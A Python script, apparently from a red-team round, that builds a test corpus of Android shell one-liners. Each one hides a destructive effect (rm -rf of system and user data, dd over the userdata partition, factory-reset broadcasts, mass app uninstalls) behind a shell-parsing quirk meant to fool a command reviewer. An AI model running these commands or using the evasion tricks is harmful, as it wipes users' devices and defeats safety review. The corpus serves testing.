#!/usr/bin/env python3
"""Round 9, attacker A (the shell language): the corpus as Python data.

Writes corpus.jsonl next to this file. No command text goes through a host shell; every line
is run only inside the tests/sandbox jail (prove.py).
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent

L = []
MK = ["mksh"]
BB = ["busybox"]


def add(family, cmd, note, shells=None, why=None):
    row = {"family": family, "cmd": cmd, "note": note}
    if shells:
        row["shells"] = shells
        row["shells_why"] = why
    L.append(row)


# ------------------------------------------------------------ funsub-scope (mksh)
W_FUNSUB = ("busybox has no `${ …;}` / `${|…}` substitution (bad substitution, nothing runs); "
            "in mksh they run in the current shell, so their side effects persist.")
add("funsub-scope", "T=/data/local/tmp/old; N=${ T=/system_ext; echo 3;}; rm -rf \"$T\"",
    "mksh's funsub `${ …;}` runs in the CURRENT shell, unlike `$( )`: the assignment inside it "
    "persists, so T is /system_ext when rm runs. A reader that models it as a command "
    "substitution (a subshell) keeps T=/data/local/tmp/old.", MK, W_FUNSUB)
add("funsub-scope", "cd /data/local/tmp && V=${ cd /vendor; echo ok;} && rm -rf ./*",
    "The `cd /vendor` inside mksh's funsub moves the shell itself (no subshell), so the relative "
    "`rm -rf ./*` runs in /vendor, not in /data/local/tmp.", MK, W_FUNSUB)
add("funsub-scope", "T=/data/local/tmp/logs; L=${|T=/data/misc; REPLY=done;}; echo \"$L\"; rm -rf \"$T\"",
    "mksh's valsub `${|…}` also runs in the current shell: its value is REPLY, and the "
    "assignment T=/data/misc made inside it persists. rm deletes /data/misc.", MK, W_FUNSUB)

# ------------------------------------------------------------ read-p (mksh)
W_READP = ("in busybox `read -p` is a prompt and the here-document line is read, which is harmless; "
           "in mksh `-p` means 'read from the co-process', which fails, so the variable keeps its value.")
add("read-p", "T=/vendor; read -p 'target? ' T <<'EOF'\n/data/local/tmp/old\nEOF\nrm -rf \"$T\"",
    "`read -p` is NOT a prompt option in mksh: it reads from the co-process, and with none it "
    "fails ('no coprocess'). T is never replaced by the here-document's /data/local/tmp/old and "
    "stays /vendor. A bash/busybox-minded reader sees the prompt form.", MK, W_READP)
add("read-p", "A=MASTER_CLEAR; read -p 'action? ' A <<'EOF'\nVIEW\nEOF\nam broadcast -a \"android.intent.action.$A\"",
    "Same: mksh's `read -p` fails without a co-process, A stays MASTER_CLEAR and the broadcast is "
    "a factory reset; a reader that takes -p as a prompt reads action VIEW.", MK, W_READP)

# ------------------------------------------------------------ bb-local-dash (busybox)
W_LDASH = ("busybox ash's `local -` saves the shell options and restores them on return; mksh "
           "has no such form (it lists variables) and the option set in the function persists.")
add("bb-local-dash", "safe() { local -; set -f; }; safe; rm -rf /data/data/*",
    "busybox: `local -` makes the options local to the function, so the `set -f` (noglob) made "
    "inside safe() is undone when it returns and /data/data/* expands to every app's data. A "
    "reader that knows options are global expects a literal, nonexistent `*`.", BB, W_LDASH)
add("bb-local-dash", "guard() { local -; set -C; }; guard; echo > /system/build.prop",
    "busybox: the noclobber set inside guard() is restored away by `local -`, so `>` truncates "
    "the existing build.prop; a reader expects noclobber to refuse the overwrite.", BB, W_LDASH)
add("bb-local-dash", "quiet() { local -; set -o noglob; }; quiet; rm -rf /sdcard/*",
    "busybox: `set -o noglob` is local to quiet() because of `local -`; after the call "
    "/sdcard/* expands to every storage folder.", BB, W_LDASH)

# ------------------------------------------------------------ arith-tilde
add("arith-tilde", "dd if=/dev/zero of=/dev/block/mmcblk0p$((~-14)) bs=4k count=1",
    "Inside `$(( ))` there is no tilde expansion: `~` is bitwise NOT, so `~-14` is 13 (userdata). "
    "A reader that sees `~-` (OLDPWD) or gives up on `~` reads a path, not the number 13.")
add("arith-tilde", "rm -rf /storage/emulated/$((~-1))/*",
    "`$((~-1))` is 0 (bitwise NOT of -1), so this is /storage/emulated/0/*: every storage folder.")
add("arith-tilde", "rm -rf /data/user_de/$((~-1))/*",
    "`~-1` is 0 in arithmetic: /data/user_de/0/* is the device-encrypted data of every app.")

# ------------------------------------------------------------ arith-incdec
add("arith-incdec", "n=13; dd if=/dev/zero of=/dev/block/mmcblk0p$((n++)) bs=4k count=1",
    "Post-increment yields the OLD value: `$((n++))` is 13 (userdata), n becomes 14 afterwards. "
    "A reader that applies the increment first reads partition 14.")
add("arith-incdec", "n=14; dd if=/dev/zero of=/dev/block/mmcblk0p$((--n)) bs=4k count=1",
    "`--n` in arithmetic is pre-decrement, not a double negation: 13, the userdata partition.")
add("arith-incdec", "n=0; rm -rf /storage/emulated/$((n++))/DCIM",
    "`$((n++))` with n=0 gives 0: /storage/emulated/0/DCIM, a top-level storage folder.")

# ------------------------------------------------------------ glob-class
add("glob-class", "rm -rf /sdcard/[[:upper:]]*",
    "A POSIX character class inside a bracket expression: `[[:upper:]]*` matches every storage "
    "folder (DCIM, Download, Pictures, Android, …). The `[[` is not the test keyword.")
add("glob-class", "rm -rf /system[[:punct:]]ext",
    "`[[:punct:]]` matches the `_`: the word globs to /system_ext.")
add("glob-class", "rm -rf /data/[[:alpha:]]ata",
    "`[[:alpha:]]ata` matches `data`: /data/data, all app data.")
add("glob-class", "X=cache:/data/system; rm -rf \"${X#[[:alpha:]]*:}\"",
    "A character class in a `${X#pattern}`: `[[:alpha:]]*:` strips `cache:`, leaving /data/system.")

# ------------------------------------------------------------ read-fd
add("read-fd", "read -u3 T <<'A' 3<<'B'\n/data/local/tmp/old\nA\n/odm\nB\nrm -rf \"$T\"",
    "Two here-documents on one command: stdin gets A, descriptor 3 gets B, and `read -u3` reads "
    "descriptor 3. T is /odm, not the /data/local/tmp/old a reader takes as read's input.")
add("read-fd", "while read -u4 p; do pm uninstall \"$p\"; done 4<<'EOF' <<'SKIP'\ncom.whatsapp\ncom.spotify.music\ncom.example.app\ncom.example.other\nEOF\ncom.example.app\nSKIP",
    "The loop reads descriptor 4, the FIRST here-document (4 packages); the loop's stdin is the "
    "second one with a single package. Four uninstalls.")
add("read-fd", "{ read S; read -u3 A; } <<'X' 3<<'Y'\nVIEW\nX\nMASTER_CLEAR\nY\nam broadcast -a \"android.intent.action.$A\"",
    "A group with two here-documents: `read S` takes VIEW from stdin, `read -u3 A` takes "
    "MASTER_CLEAR from descriptor 3: a factory-reset broadcast.")

# ------------------------------------------------------------ xtrace-feed
add("xtrace-feed", "( PS4='rm -rf '; set -x; : /vendor ) 2>&1 >/dev/null | sh",
    "The execution trace is code: with PS4='rm -rf ' the trace line of `: /vendor` is "
    "`rm -rf : /vendor`, sent on stderr into `sh`. The subshell itself runs only `:`.")
add("xtrace-feed", "sh -xc ': /data/misc' 2>&1 | sed 's/^+ : /rm -rf /' | sh",
    "A child shell's `-x` trace (`+ : /data/misc` on stderr) is rewritten and run: /data/misc.")
add("xtrace-feed", "( PS4='dd if=/dev/zero bs=4k count=1 '; set -x; of=/dev/block/by-name/misc ) 2>&1 | sh",
    "The traced command is a harmless assignment `of=…`; its trace line prefixed by PS4 is a dd "
    "onto the misc partition, which the outer sh runs.")
add("xtrace-feed", "{ PS4='pm uninstall '; set -x; p=com.whatsapp; p=com.spotify.music; p=com.example.app; p=com.example.other; } 2>&1 | sed 's/p=//' | sh",
    "Four traced assignments become four `pm uninstall` lines through PS4: a mass uninstall.")

# ------------------------------------------------------------ verbose-feed
add("verbose-feed", "sh -v 2>&1 >/dev/null <<'EOF' | cut -c2- | sh\n#rm -rf /product\nEOF",
    "`sh -v` echoes every input line, comments included, to stderr. The here-document holds only "
    "a comment, but its echo with the `#` cut off is run by the second sh: /product.")
add("verbose-feed", "{ sh -v 2>&1 >/dev/null <<'EOF'\n: nightly cleanup\n#cmd testharness enable\nEOF\n} | sed -n 's/^#//p' | sh",
    "Verbose mode turns the commented-out `#cmd testharness enable` into stderr text; sed takes "
    "the comment line back out as a command: test-harness mode (wipes accounts and data).")

# ------------------------------------------------------------ dq-backslash
add("dq-backslash", "echo \"cleanup \\\\$(rm -rf /product)\"",
    "Inside double quotes `\\\\` is ONE escaped backslash, so the `$(` after it is live: the rm "
    "runs. A reader that sees `\\$(` reads an escaped, literal dollar.")
add("dq-backslash", "echo \"status: \\\\\\\\$(cmd testharness enable)\"",
    "Four backslashes are two escaped backslashes (an even count): the `$( )` after them runs "
    "cmd testharness enable.")

add("dq-backslash", "printf '%s\\n' \"queued \\\\$(echo --wipe_data >/cache/recovery/command)\"",
    "The `\\\\` before `$(` is an escaped backslash, not an escaped dollar: the substitution writes "
    "--wipe_data into the recovery command file (a factory reset at the next recovery boot).")

# ------------------------------------------------------------ read-trailing-ifs
add("read-trailing-ifs", "IFS=: read a b <<'EOF'\nx:/vendor:\nEOF\nrm -rf \"$b\"",
    "The last variable of `read` gets the rest of the line, but ONE trailing non-whitespace IFS "
    "character is dropped: b is /vendor, not the nonexistent `/vendor:` a reader expects.")
add("read-trailing-ifs", "IFS=: read name dir <<'EOF'\nold-cache:/data/app:\nEOF\nrm -rf \"$dir\"",
    "The trailing `:` is removed from the last field: dir is /data/app.")
add("read-trailing-ifs", "IFS=' :' read a b <<'EOF'\ncache : /data/system :\nEOF\nrm -rf \"$b\"",
    "With IFS of space and colon, the trailing ` :` (whitespace plus one delimiter) is dropped "
    "from the last field: b is /data/system.")

# ------------------------------------------------------------ unset-ns
add("unset-ns", "sweep() { rm -rf /system_ext; }; unset sweep; sweep",
    "`unset NAME` without -f unsets the VARIABLE NAME (there is none); the function survives and "
    "the call runs it. A reader that takes `unset sweep` as removing the function reads a "
    "'command not found'.")
add("unset-ns", "reset_all() { cmd testharness enable; }; unset -v reset_all; reset_all",
    "`unset -v` only touches variables: reset_all still runs cmd testharness enable.")
add("unset-ns", "purge() { for p in com.whatsapp com.spotify.music com.example.app com.example.other; do pm uninstall \"$p\"; done; }; unset purge 2>/dev/null; purge",
    "The 'disarmed' purge function is still defined after `unset purge`: four uninstalls.")

# ------------------------------------------------------------ case-var
add("case-var", "MODE=dry; SKIP='dry|test'; case $MODE in $SKIP) echo skip;; *) rm -rf /vendor;; esac",
    "A `|` that comes from a variable is not pattern alternation: the pattern is the literal "
    "text `dry|test`, which does not match `dry`, so the default branch deletes /vendor.")
add("case-var", "P='[d]ry'; case dry in \"$P\") echo skip;; *) rm -rf /odm;; esac",
    "A QUOTED variable in a case pattern matches literally: `\"$P\"` is the text `[d]ry`, not the "
    "bracket pattern, so `dry` falls to the default branch and /odm is deleted.")
add("case-var", "U=0; KEEP='0|10'; case $U in $KEEP) U=11;; esac; cmd user remove-user $U",
    "`$KEEP` is the single literal pattern `0|10`; user 0 does not match it, is never replaced "
    "by 11, and is removed.")

# ------------------------------------------------------------ blank-chars
add("blank-chars", "cd\u00a0/data/local/tmp; rm -rf ./*",
    "A NO-BREAK SPACE (U+00A0) is not a shell blank: `cd\\u00a0/data/local/tmp` is one command "
    "name, not found, so the shell stays in / and rm deletes everything. A reader that splits on "
    "Unicode whitespace reads a cd into /data/local/tmp.")
add("blank-chars", "cd /data/local/tmp\v; rm -rf ./*",
    "A vertical tab is a word character to the shell: the cd target is `/data/local/tmp\\v`, which "
    "does not exist; rm runs in /.")
add("blank-chars", "cd /data/local/tmp\f&& echo in tmp; rm -rf ./product",
    "A form feed glued to the cd target makes the cd fail; the relative rm runs in / and deletes "
    "/product.")
add("blank-chars", "cd /data/local/tmp\u00a0; rm -rf ./vendor",
    "NO-BREAK SPACE at the end of the cd target: the cd fails and ./vendor is /vendor.")

# ------------------------------------------------------------ late-syntax
add("late-syntax", "rm -rf /vendor\nfi",
    "Both shells parse and run a `-c` script one line at a time: the syntax error (`fi` with no "
    "if) on line 2 is found only after line 1 has deleted /vendor. A reader that declares the "
    "whole script unparsable, so inert, misses it.")
add("late-syntax", "cmd user remove-user 10\ndone",
    "A stray `done` on the last line does not stop the line before it: user 10 is removed.")
add("late-syntax", "rm -rf /data/app\n)",
    "An unbalanced `)` on line 2 fails only after /data/app is deleted.")
add("late-syntax", "rm -rf /odm\necho 'done",
    "An unterminated quote at the end: the first line has already run.")

# ------------------------------------------------------------ exit-trap-state
add("exit-trap-state", "set -e; T=/vendor; trap 'rm -rf \"$T\"' EXIT; false; T=/data/local/tmp/old",
    "errexit ends the shell at `false`, before the reassignment; the EXIT trap then runs with "
    "T=/vendor. A reader that runs the script to its end sees T=/data/local/tmp/old in the trap.")
add("exit-trap-state", "T=/product; trap 'rm -rf \"$T\"' EXIT; : \"${CONFIRM:?not confirmed}\"; T=/data/local/tmp/old",
    "`${CONFIRM:?}` with CONFIRM unset ENDS a non-interactive shell; the EXIT trap runs with the "
    "old T, /product.")
add("exit-trap-state", "T=/data/misc; trap 'rm -rf \"$T\"' EXIT; . /data/local/tmp/env.sh; T=/data/local/tmp/old",
    "`.` of a missing file is a special-builtin error that ends the shell: the trap deletes "
    "/data/misc.")
add("exit-trap-state", "T=/vendor; trap 'rm -rf \"$T\"' EXIT; exec /data/local/tmp/helper; T=/data/local/tmp/old",
    "A failed `exec` ends a non-interactive shell: the reassignment never runs and the trap "
    "deletes /vendor.")

# ------------------------------------------------------------ set-sort (mksh)
W_SORT = "busybox has no `set -s` (illegal option, the parameters are not set); mksh sorts them."
add("set-sort", "set -s -- /data/local/tmp/old /data/app /data/local/tmp/new; rm -rf \"$1\"",
    "mksh's `set -s` SORTS the positional parameters: `$1` is /data/app, not the first word "
    "written (/data/local/tmp/old).", MK, W_SORT)
add("set-sort", "set -s -- /sdcard/Download/old.zip /sdcard/DCIM; rm -rf \"$1\"",
    "Sorted, `/sdcard/DCIM` comes before `/sdcard/Download/old.zip` (C < o): `$1` is DCIM, a "
    "top-level storage folder.", MK, W_SORT)

# ------------------------------------------------------------ read-closed (mksh)
W_RC = ("busybox's read on a closed descriptor clears the variable (harmless default); mksh fails "
        "before touching it, so the old value stays.")
add("read-closed", "T=/data/system; read T <&- 2>/dev/null; rm -rf \"${T:-/data/local/tmp/none}\"",
    "mksh: `read` from a closed stdin fails WITHOUT clearing T, so the default never applies and "
    "/data/system is deleted. A reader that expects read to empty T reads the harmless default.",
    MK, W_RC)
add("read-closed", "T=/vendor; read T <&- 2>/dev/null || echo keep; rm -rf \"$T\"",
    "mksh keeps T=/vendor after a failed read on a closed descriptor.", MK, W_RC)

# ------------------------------------------------------------ glob-position
add("glob-position", "set -- /sdcard/*/; rm -rf \"$1\"",
    "The positional parameters come from a glob sorted in byte order: `$1` is the first storage "
    "folder (Alarms or Android on a device, Android here). No folder is named in the text.")
add("glob-position", "for d in /data/*; do rm -rf \"$d\"; break; done",
    "A loop that 'stops after one' still deletes the first entry of /data in sorted order: "
    "/data/app (OS state).")
add("glob-position", "set -- /d*/u*; rm -rf \"$2\"",
    "`/d*/u*` sorts to /data/user /data/user_de …; `$2` is /data/user_de, all apps' data.")

out = HERE / "corpus.jsonl"
out.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in L))
print(f"{len(L)} lines -> {out}")
